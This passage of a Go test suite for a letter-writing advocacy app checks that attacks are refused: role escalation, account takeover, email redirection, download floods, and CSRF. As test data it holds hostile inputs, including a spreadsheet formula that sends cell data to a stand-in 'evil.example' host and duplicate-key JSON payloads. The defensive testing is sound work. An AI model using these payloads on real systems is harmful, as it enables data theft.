				t.Fatalf("after approval: %d", resp.StatusCode)
			}
			acts := strings.Join(af.auditActions(app.AuditFilter{Action: "role_grant"}), " ")
			for _, a := range []string{"role_grant.request", "role_grant.approve_refused", "role_grant.approve"} {
				if !strings.Contains(acts, a) {
					t.Errorf("audit log lacks %s: %s", a, acts)
				}
			}
		}},
		{name: "an admin creates a new account with the supporter-data role", run: func(t *testing.T) {
			form := url.Values{"email": {"friend@example.org"}, "roles": {"staff", "supporter-data"}, "password": {testPassword}}
			resp, body := adminB.submit("/admin/users", "/admin/users", form)
			if resp.StatusCode != http.StatusSeeOther || hasRole("friend@example.org", app.RoleSupporterData) {
				t.Fatalf("%d %s", resp.StatusCode, errorText(body))
			}
			mustContain(t, adminB.follow(resp, body), "needs a second administrator")
			// The requester withdraws it.
			resp, _ = adminB.submit("/admin/users", "/admin/grants/"+pendingGrant("friend@example.org")+"/refuse", url.Values{})
			if resp.StatusCode != http.StatusSeeOther || hasRole("friend@example.org", app.RoleSupporterData) {
				t.Fatalf("refuse: %d", resp.StatusCode)
			}
		}},
		{name: "an admin resets a supporter-data holder's password to sign in as them", run: func(t *testing.T) {
			before := dbState(t, af)
			id := userID("holder@example.org")
			resp, _ := adminB.submit("/admin/users/"+id, "/admin/users/"+id+"/password",
				url.Values{"password": {"borrowed password 1"}, "confirm": {"borrowed password 1"}})
			if resp.StatusCode != http.StatusForbidden {
				t.Fatalf("%d", resp.StatusCode)
			}
			if after := dbState(t, af); after != before {
				t.Errorf("changed:\n%s", after)
			}
			if resp, _ := af.browser().login("holder@example.org", "borrowed password 1"); resp.StatusCode == http.StatusSeeOther {
				t.Fatal("signed in with the reset password")
			}
		}},
		{name: "an admin creates an API token for a supporter-data holder", run: func(t *testing.T) {
			id := userID("holder@example.org")
			resp, body := adminB.submit("/admin/users/"+id, "/admin/users/"+id+"/tokens", url.Values{"token_name": {"borrowed"}})
			if resp.StatusCode != http.StatusForbidden || strings.Contains(body, "adv_") {
				t.Fatalf("%d", resp.StatusCode)
			}
		}},
		{name: "a duplicate JSON key smuggles a second email past a filter", run: func(t *testing.T) {
			before := dbState(t, af)
			for _, body := range []string{
				strings.Replace(goodJSON, `"email":"lukasz@example.org"`, `"email":"lukasz@example.org","email":"other@example.org"`, 1),
				strings.Replace(goodJSON, `"email":"lukasz@example.org"`, `"email":"lukasz@example.org","Email":"other@example.org"`, 1),
				strings.Replace(goodJSON, `"zip":"12202"`, `"zip":"12202","ZIP":"60173"`, 1),
			} {
				resp, answer := af.do(http.MethodPost, "/api/v1/campaigns/"+slug+"/submissions", "application/json", body)
				if resp.StatusCode != http.StatusBadRequest || !strings.Contains(answer, "Malformed JSON") {
					t.Errorf("%s: %d %s", body, resp.StatusCode, answer)
				}
			}
			if after := dbState(t, af); after != before {
				t.Errorf("stored:\n%s", after)
			}
		}},
		{name: "a formula as an office's name in the packets' index.csv", run: func(t *testing.T) {
			af, _ := fullApp(t) // no letter yet: the packet names the office as its first letter does
			holder := af.signedIn("holder@example.org", app.RoleSupporterData)
			// Office names come from rosters organizers edit by hand (and
			// letters keep the name they were written to): a letter stored
			// with a formula as its office's name.
			formula := `=HYPERLINK("http://evil.example/?"&A2,"open")`
			camp, err := af.db.Campaigns.FindCampaignBySlug(ctx, slug)
			if err != nil {
				t.Fatal(err)
			}
			office := app.Target{Key: "exec:EVIL", Kind: app.TargetExecutive, Name: formula, LastName: "Evil", Title: "@SUM(A1:A9)",
				Greeting: "Dear Secretary:", AddressLines: []string{"Washington, DC 20528"}}
			sub := &app.Submission{CampaignID: camp.ID, Token: strings.Repeat("e", 26), DedupKey: "evil", CreatedAt: fixedNow,
				Supporter: app.Supporter{FirstName: "Ann", LastName: "Lee", Email: "ann@example.org", Address1: "1 Main St", City: "Albany", State: "NY", Zip: "12202"},
				Letters:   []app.Letter{{CampaignID: camp.ID, Recipient: office, Subject: "Free Guan Heng", Body: "Dear Secretary:\n\nPlease help.", CreatedAt: fixedNow}}}
			if _, err := af.db.Submissions.CreateSubmission(ctx, sub); err != nil {
				t.Fatal(err)
			}
			_, zipBody := holder.get("/staff/campaigns/" + slug + "/packets.zip")
			zr, err := zip.NewReader(strings.NewReader(zipBody), int64(len(zipBody)))
			if err != nil {
				t.Fatal(err)
			}
			f, err := zr.Open("index.csv")
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			recs, err := csv.NewReader(f).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			found := false
			for _, rec := range recs {
				for _, cell := range rec {
					if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "@") || strings.HasPrefix(cell, "+") {
						t.Errorf("live formula in index.csv: %q", cell)
					}
					found = found || strings.HasPrefix(cell, "'"+formula)
				}
			}
			if !found {
				t.Errorf("the office is missing from index.csv: %v", recs)
			}
		}},
	}
	for _, r := range rows {
		t.Run(r.name, r.run)
	}
}

// TestAttackRedirectOfficeMail: an organizer points an office's or a
// commission's letters at an inbox of their choosing. Nothing is emailed
// there until an admin other than them approves, through the submission
// and the outbox alike; addresses at IP literals are refused outright.
func TestAttackRedirectOfficeMail(t *testing.T) {
	for _, dialect := range []string{"sqlite", "postgres"} {
		t.Run(dialect, func(t *testing.T) {
			dsn := ""
			if dialect == "postgres" {
				dsn = apptest.PostgresDSN(t)
			}
			attackRedirectOfficeMail(t, dsn)
		})
	}
}

func attackRedirectOfficeMail(t *testing.T, dsn string) {
	af := newAttackApp(t, dsn, nil)
	ctx := context.Background()
	mallory := af.signedIn("mallory@example.org", app.RoleOrganizer, app.RoleAdmin)
	helper := af.signedIn("helper@example.org", app.RoleOrganizer)
	other := af.signedIn("other-admin@example.org", app.RoleAdmin)
	srv := mailtest.Start(t, mailtest.Options{})
	smtp, err := mail.NewSMTP(mail.SMTPOptions{URL: srv.URL(), Timeout: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	maker, err := pdf.New(pdf.Options{})
	if err != nil {
		t.Fatal(err)
	}
	composer, err := outbox.NewComposer(outbox.ComposerOptions{From: mail.Address{Name: "Advocate", Email: "letters@example.org"},
		BaseURL: "https://letters.example.org", Templates: templates.Emails(), PDF: maker})
	if err != nil {
		t.Fatal(err)
	}
	ob, err := outbox.New(outbox.Options{Store: views.Outbox(af.db), Sender: smtp, Composer: composer})
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	// write makes a supporter write and sends what the outbox has; it
	// returns where the office emails of the letter were queued, by
	// recipient key, and every address mail was sent to so far.
	write := func(t *testing.T) (map[string][]string, []string) {
		t.Helper()
		n++
		token := submitToken(t, af, map[string]any{"email": fmt.Sprintf("writer%d@example.org", n)})
		sub, err := af.db.Submissions.FindSubmissionByToken(ctx, token)
		if err != nil {
			t.Fatal(err)
		}
		queued := map[string][]string{}
		for _, l := range sub.Letters {
			for _, d := range l.Deliveries {
				if d.Channel == app.ChannelEmail {
					queued[l.Recipient.Key] = append(queued[l.Recipient.Key], d.To)
				}
			}
		}
		if _, err := ob.Flush(ctx); err != nil {
			t.Fatal(err)
		}
		var sent []string
		for _, r := range srv.Received() {
			sent = append(sent, r.To...)
		}
		return queued, sent
	}
	pending := func(t *testing.T) []app.AddressChange {
		t.Helper()
		list, err := af.db.Roster.ListAddressChanges(ctx, app.AddressChangeFilter{Status: app.ApprovalPending})
		if err != nil {
			t.Fatal(err)
		}
		return list
	}
	const dhs, tl = "/organize/rosters/executives/DHS_SECRETARY", "/organize/rosters/commissions/TLHRC"
	dhsForm := func(email string) url.Values {
		return url.Values{"title": {"Secretary of Homeland Security"}, "name": {"Markwayne Mullin"},
			"address": {"U.S. Department of Homeland Security\r\nWashington, DC 20528"}, "email": {email}}
	}
	tlForm := func(email string) url.Values {
		return url.Values{"name": {"Tom Lantos Human Rights Commission"}, "chamber": {"house"}, "email": {email}}
	}
	rows := []struct {
		name   string
		attack func(t *testing.T)
	}{
		{"organizer points the executive office and the commission at their own inboxes: saved, but nothing goes there", func(t *testing.T) {
			resp, body := mallory.submit(dhs, dhs, dhsForm("drop@mallory.example"))
			mustContain(t, mallory.follow(resp, body), "waiting for an admin's approval", "until then letters are not emailed")
			resp, body = mallory.submit(tl, tl, tlForm("drop@mallory.example"))
			mustContain(t, mallory.follow(resp, body), "waiting for an admin's approval", "until then letters go to TLHRC@mail.house.gov")
			_, page := helper.get("/organize/rosters")
			mustContain(t, text(page), "drop@mallory.example", "waiting for an admin's approval")
			queued, sent := write(t)
			if len(queued) == 0 {
				t.Fatal("no office email queued at all")
			}
			for key, tos := range queued {
				if key == "exec:DHS_SECRETARY" || !slices.Equal(tos, []string{"TLHRC@mail.house.gov"}) {
					t.Errorf("letter to %s queued for %v", key, tos)
				}
			}
			if slices.Contains(sent, "drop@mallory.example") {
				t.Errorf("sent to the organizer's inbox: %v", sent)
			}
		}},
		{"the organizer, also an admin, approves their own change", func(t *testing.T) {
			for _, c := range pending(t) {
				resp, body := mallory.submit("/admin", "/admin/approvals/"+itoa(c.ID)+"/approve", url.Values{})
				if resp.StatusCode != http.StatusForbidden || !strings.Contains(text(body), "another admin must decide") {
					t.Errorf("self-approval of %s: %d", c.Subject, resp.StatusCode)
				}
			}
			if len(pending(t)) != 2 {
				t.Errorf("still pending: %+v", pending(t))
			}
			_, page := mallory.get("/admin")
			mustContain(t, text(page), "You asked for this: another admin decides.")
		}},
		{"an organizer without the admin role posts an approval", func(t *testing.T) {
			c := pending(t)[0]
			resp, _ := helper.post("/admin/approvals/"+itoa(c.ID)+"/approve", url.Values{}, true)
			if resp.StatusCode != http.StatusForbidden {
				t.Errorf("organizer approval: %d", resp.StatusCode)
			}
			if len(pending(t)) != 2 {
				t.Errorf("still pending: %+v", pending(t))
			}
		}},
		{"an office or commission address at an IP literal", func(t *testing.T) {
			for _, email := range []string{"a@[10.0.0.1]", "a@[IPv6:::1]"} {
				resp, body := mallory.submit(dhs, dhs, dhsForm(email))
				if resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(text(body), "not at an IP address") {
					t.Errorf("office %s: %d", email, resp.StatusCode)
				}
				resp, body = mallory.submit(tl, tl, tlForm(email))
				if resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(text(body), "not at an IP address") {
					t.Errorf("commission %s: %d", email, resp.StatusCode)
				}
			}
		}},
		{"a supporter address at an IP literal", func(t *testing.T) {
			for _, email := range []string{"eve@[10.0.0.1]", "eve@[IPv6:::1]", "eve@127.0.0.1"} {
				resp, body := submitJSON(t, af, slug, map[string]any{"email": email})
				if resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(body, "not at an IP address") {
					t.Errorf("supporter %s: %d %s", email, resp.StatusCode, body)
				}
			}
		}},
		{"another admin refuses the commission's change: the old address stays", func(t *testing.T) {
			for _, c := range pending(t) {
				if c.Subject != "commission:TLHRC" {
					continue
				}
				resp, body := other.submit("/admin", "/admin/approvals/"+itoa(c.ID)+"/refuse", url.Values{})
				mustContain(t, other.follow(resp, body), "Refused. Letters to Tom Lantos Human Rights Commission keep going to TLHRC@mail.house.gov.")
				resp, _ = other.submit("/admin", "/admin/approvals/"+itoa(c.ID)+"/approve", url.Values{})
				if resp.StatusCode != http.StatusConflict {
					t.Errorf("approving after the refusal: %d", resp.StatusCode)
				}
			}
			queued, sent := write(t)
			for key, tos := range queued {
				if key != "exec:DHS_SECRETARY" && !slices.Equal(tos, []string{"TLHRC@mail.house.gov"}) {
					t.Errorf("after the refusal %s is queued for %v", key, tos)
				}
			}
			if slices.Contains(sent, "drop@mallory.example") {
				t.Errorf("sent to the organizer's inbox: %v", sent)
			}
			_, page := mallory.get(tl)
			mustContain(t, text(page), `value="TLHRC@mail.house.gov"`)
		}},
		{"only once another admin approves does the office's mail go to the new address", func(t *testing.T) {
			c := pending(t)[0]
			resp, body := other.submit("/admin", "/admin/approvals/"+itoa(c.ID)+"/approve", url.Values{})
			mustContain(t, other.follow(resp, body), "Approved.")
			queued, sent := write(t)
			if !slices.Equal(queued["exec:DHS_SECRETARY"], []string{"drop@mallory.example"}) || !slices.Contains(sent, "drop@mallory.example") {
				t.Errorf("after approval: queued %v, sent %v", queued, sent)
			}
		}},
		{"the audit log shows every old and new value and the decisions", func(t *testing.T) {
			_, page := other.get("/admin/audit")
			mustContain(t, text(page), "roster.executive.save", "DHS_SECRETARY email: (none) → “drop@mallory.example”",
				"TLHRC email: “TLHRC@mail.house.gov” → “drop@mallory.example”", "roster.address.refuse", "roster.address.approve")
		}},
	}
	for _, r := range rows {
		t.Run(r.name, r.attack)
	}
}

// pdfRequest downloads path from the client address ip (the app believes
// X-Forwarded-For from 127.0.0.1 in these tests), with If-None-Match when
// etag is set.
func pdfRequest(t *testing.T, af *authFixture, path, ip, etag string) (*http.Response, string) {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, af.srv.URL+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("X-Forwarded-For", ip)
	if etag != "" {
		req.Header.Set("If-None-Match", etag)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, string(b)
}

// TestAttackPDFFlood: a supporter's link downloaded over and over, from one
// address or from many, is answered from the kept copy and then refused
// with 429 and Retry-After; a browser that has the PDF gets 304; an erased
// supporter's PDF is never served again, not even from the kept copy.
func TestAttackPDFFlood(t *testing.T) {
	af := newAttackApp(t, "", func(o *web.Options) {
		o.DownloadRate = web.RateLimit{PerMinute: 1, Burst: 4}
		o.DownloadTokenRate = web.RateLimit{PerMinute: 1, Burst: 3}
		o.TrustedProxies = []string{"127.0.0.1"}
	})
	token := submitToken(t, af, map[string]any{"email": "flooded@example.org"})
	other := submitToken(t, af, map[string]any{"email": "bystander@example.org"})
	all := "/s/" + token + "/letters.pdf"
	statuses := func(path string, ips ...string) []int {
		var got []int
		for _, ip := range ips {
			resp, body := pdfRequest(t, af, path, ip, "")
			got = append(got, resp.StatusCode)
			if resp.StatusCode == http.StatusTooManyRequests {
				if resp.Header.Get("Retry-After") == "" {
					t.Errorf("429 without Retry-After")
				}
				mustContain(t, body, "Too many downloads in a short time")
			}
		}
		return got
	}
	rows := []struct {
		name string
		run  func(t *testing.T)
	}{
		{name: "a browser that has the PDF gets 304, and no copy in a shared cache", run: func(t *testing.T) {
			// Three requests per link: the per-link burst.
			for i, tags := range [][]string{{"%s", "W/%s"}, {`"other", %s`, `"stale"`}} {
				link := "/s/" + submitToken(t, af, map[string]any{"email": fmt.Sprintf("etag%d@example.org", i)}) + "/letters.pdf"
				ip := fmt.Sprintf("192.0.2.%d", i+1)
				resp, body := pdfRequest(t, af, link, ip, "")
				etag := resp.Header.Get("ETag")
				if resp.StatusCode != http.StatusOK || !strings.HasPrefix(body, "%PDF") || etag == "" {
					t.Fatalf("first download: %d ETag %q", resp.StatusCode, etag)
				}
				if cc := resp.Header.Get("Cache-Control"); !strings.Contains(cc, "private") || strings.Contains(cc, "public") {
					t.Fatalf("Cache-Control %q", cc)
				}
				for _, tag := range tags {
					inm := strings.ReplaceAll(tag, "%s", etag)
					resp, body = pdfRequest(t, af, link, ip, inm)
					want := http.StatusNotModified
					if inm == `"stale"` {
						want = http.StatusOK
					}
					if resp.StatusCode != want || (want == http.StatusNotModified && body != "") || resp.Header.Get("ETag") != etag {
						t.Fatalf("If-None-Match %s: %d, %d bytes, ETag %q", inm, resp.StatusCode, len(body), resp.Header.Get("ETag"))
					}
				}
			}
		}},
		{name: "one link from many addresses: the per-link limit", run: func(t *testing.T) {
			if got := statuses(all, "198.51.100.1", "198.51.100.2", "198.51.100.3", "198.51.100.4", "198.51.100.5"); fmt.Sprint(got) != "[200 200 200 429 429]" {
				t.Fatalf("statuses %v", got)
			}
			// A single letter of the same link counts too.
			sub, err := af.db.Submissions.FindSubmissionByToken(context.Background(), token)
			if err != nil {
				t.Fatal(err)
			}
			if got := statuses("/s/"+token+"/letters/"+itoa(sub.Letters[0].ID)+"/pdf", "198.51.100.6"); got[0] != http.StatusTooManyRequests {
				t.Fatalf("a single letter: %v", got)
			}
		}},
		{name: "one address, many links: the per-address limit", run: func(t *testing.T) {
			var got []int
			for i := range 6 {
				tok := submitToken(t, af, map[string]any{"email": fmt.Sprintf("links%d@example.org", i)})
				got = append(got, statuses("/s/"+tok+"/letters.pdf", "203.0.113.9")...)
			}
			if fmt.Sprint(got) != "[200 200 200 200 429 429]" {
				t.Fatalf("statuses %v", got)
			}
			// An IPv6 client counts with its whole /64.
			var six []int
			for i := range 6 {
				tok := submitToken(t, af, map[string]any{"email": fmt.Sprintf("six%d@example.org", i)})
				six = append(six, statuses("/s/"+tok+"/letters.pdf", fmt.Sprintf("2001:db8:1:2::%x", i+1))...)
			}
			if fmt.Sprint(six) != "[200 200 200 200 429 429]" {
				t.Fatalf("IPv6 statuses %v", six)
			}
			// Someone else is not held back by it.
			if got := statuses("/s/"+other+"/letters.pdf", "203.0.113.10"); got[0] != http.StatusOK {
				t.Fatalf("another address: %v", got)
			}
		}},
	}
	for _, r := range rows {
		t.Run(r.name, r.run)
	}
}

// TestAttackErasedPDFNotServedFromCache erases a supporter whose PDFs were
// just downloaded (and so are kept in memory): their links answer 410,
// also to a browser offering the old ETag, on both databases.
func TestAttackErasedPDFNotServedFromCache(t *testing.T) {
	for _, db := range []struct{ name, dsn string }{{"sqlite", ""}, {"postgres", "postgres"}} {
		t.Run(db.name, func(t *testing.T) {
			dsn := db.dsn
			if dsn != "" {
				dsn = apptest.PostgresDSN(t)
			}
			af := newAttackApp(t, dsn, nil)
			token := submitToken(t, af, map[string]any{"email": "erase.me@example.org"})
			sub, err := af.db.Submissions.FindSubmissionByToken(context.Background(), token)
			if err != nil {
				t.Fatal(err)
			}
			paths := []string{"/s/" + token + "/letters.pdf", "/s/" + token + "/letters/" + itoa(sub.Letters[0].ID) + "/pdf"}
			etags := map[string]string{}
			for _, p := range paths {
				for range 2 { // the second comes from the kept copy
					resp, body := pdfRequest(t, af, p, "192.0.2.7", "")
					if resp.StatusCode != http.StatusOK || !strings.HasPrefix(body, "%PDF") {
						t.Fatalf("%s before erasure: %d", p, resp.StatusCode)
					}
					etags[p] = resp.Header.Get("ETag")
				}
			}
			if _, err := af.db.Privacy.EraseSupporters(context.Background(), app.EraseFilter{Email: "erase.me@example.org"}); err != nil {
				t.Fatal(err)
			}
			for _, p := range paths {
				for _, etag := range []string{"", etags[p]} {
					resp, body := pdfRequest(t, af, p, "192.0.2.7", etag)
					if resp.StatusCode != http.StatusGone || strings.HasPrefix(body, "%PDF") {
						t.Fatalf("%s after erasure (If-None-Match %q): %d", p, etag, resp.StatusCode)
					}
					mustContain(t, body, "erased")
				}
			}
		})
	}
}

// TestAttackCSRFEveryPOSTRoute: every form route (every POST outside the
// cookie-less JSON API) refuses a request without the page's CSRF token or
// with a forged one, even from a browser signed in with every role, and
// changes nothing. TestAttackCSRF shows for the main forms that the right
// token goes through; this one makes sure no route is left out.
func TestAttackCSRFEveryPOSTRoute(t *testing.T) {
	af, _ := fullApp(t) // every route wired
	token := submitToken(t, af, map[string]any{"email": "csrf-every@example.org"})
	b := af.signedIn("everything@example.org", app.RoleAdmin, app.RoleOrganizer, app.RoleStaff, app.RoleSupporterData)
	fill := strings.NewReplacer(":slug", slug, ":token", token, ":id", "1", ":kind", "senator", ":code", "TLHRC",
		":key", "DHS_SECRETARY", ":version", "1", ":file", "letters.csv", ":bioguide", "M000312", ":n", "1")
	n := 0
	for _, r := range af.web.Routes() {
		if r.Method != http.MethodPost || strings.HasPrefix(r.Path, "/api/") {
			continue
		}
		n++
		path := fill.Replace(r.Path)
		if strings.Contains(path, ":") {
			t.Errorf("%s: a path parameter this test does not fill", r.Path)
			continue
		}
		for _, tok := range []string{"", "forged-token-0123456789abcdef"} {
			before := dbState(t, af)
			form := url.Values{"confirm": {"yes"}, "email": {"csrf-every@example.org"}}
			if tok != "" {
				form.Set("_csrf", tok)
			}
			req, _ := http.NewRequest(http.MethodPost, af.srv.URL+path, strings.NewReader(form.Encode()))
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			resp, _ := b.do(req)
			if resp.StatusCode != http.StatusBadRequest && resp.StatusCode != http.StatusForbidden {
				t.Errorf("POST %s with token %q: %d, want 400 or 403", r.Path, tok, resp.StatusCode)
			}
			if after := dbState(t, af); after != before {
				t.Errorf("POST %s with token %q changed the database", r.Path, tok)
			}
		}
	}
	if n < 30 {
		t.Fatalf("only %d form routes found", n)
	}
	if sub, _ := af.db.Submissions.FindSubmissionByToken(context.Background(), token); sub.Supporter.ErasedAt != nil {
		t.Fatal("a forged form erased a supporter")
	}
}
